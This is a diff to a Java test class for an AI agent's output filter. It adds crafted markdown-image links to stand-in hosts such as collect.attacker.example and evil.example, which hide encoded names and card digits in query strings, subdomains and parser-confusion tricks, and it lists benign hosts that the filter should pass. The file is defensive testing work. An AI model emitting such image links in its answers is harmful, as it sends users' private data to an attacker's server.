@@ -195,6 +195,16 @@ class AgentPresetTest {
                 // a URL inside the image's URL after a disguised end: the data is still the image's
                 "Done. ![x](https://collect.attacker.example/p.gif?v=%22//&d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ)",
                 "Done. ![x](https://collect.attacker.example/p.gif?v=%22x//&d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ)",
+                // data in a query part after a "//", and in a query part without a name
+                "Done. ![a](https://collect.attacker.example/p.gif?x=//d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ.png)",
+                "Done. ![a](https://collect.attacker.example/p.gif?QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ)",
+                // a markdown destination ends at a space: image a does not run on over image b
+                "Done. ![a](https://ok.example/p.png?%29 " + "filler words ".repeat(320)
+                        + "![b](https://collect.attacker.example/p.gif?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ)",
+                "Done. ![a](https://ok.example/p.png?%29" + "a".repeat(4000)
+                        + "![b](https://collect.attacker.example/p.gif?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ)",
+                // ... unless it is written in <>: then spaces and all, to its '>'
+                "Done. ![a](<https://collect.attacker.example/p.gif?q=alice smith card ending 4111 meeting at 9>)",
                 // a backslash decoded from %5C escapes nothing: the real ')' ends image a, image b is fetched
                 "Done. ![a](https://cdn.example.com/a.png?v=%5C) ![b](https://collect.attacker.example/"
                         + "QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQQWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ)",
@@ -210,7 +220,9 @@ class AgentPresetTest {
                 "6a6f686e2e646f6540636f6e746f736f2e636f6d.collect.attacker.example", // hex of an e-mail address
                 "mfrggzdfmztwq2lknnwg23tpobyxe.x.attacker.example", // base32
                 "SGVsbG8gQWxpY2UgU21pdGggNDExMQ.attacker.example",
-                "user@6a6f686e2e646f6540636f6e746f736f2e636f6d.attacker.example:8443")) {
+                "user@6a6f686e2e646f6540636f6e746f736f2e636f6d.attacker.example:8443",
+                // a special scheme reads a backslash as '/': the host is the first one
+                "6a6f686e2e646f6540636f6e746f736f2e636f6d.evil.example\\@ok.example")) {
             assertAnswerBlockedAsExfiltration("Done. ![s](https://" + host + "/p.gif)");
         }
         for (String host : List.of(
@@ -220,7 +232,12 @@ class AgentPresetTest {
                 "user-images.githubusercontent.com",
                 "lh3.googleusercontent.com",
                 "upload.wikimedia.org",
-                "0123456789abcdef0123456789abcdef.example")) { // the registrable name itself is no data label
+                "0123456789abcdef0123456789abcdef.example", // the registrable name itself is no data label
+                // generated names of content-addressed and storage hosts
+                "bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi.ipfs.dweb.link",
+                "0123456789abcdef0123456789abcdef.r2.cloudflarestorage.com",
+                "abcdefghij0123456789abcdefghij12.lambda-url.eu-west-1.on.aws",
+                "companyassets20240101productionimages.s3.eu-west-1.amazonaws.com")) {
             String answer = "Here it is: ![chart](https://" + host + "/chart.png)";
             assertAnswerPasses(answer);
         }
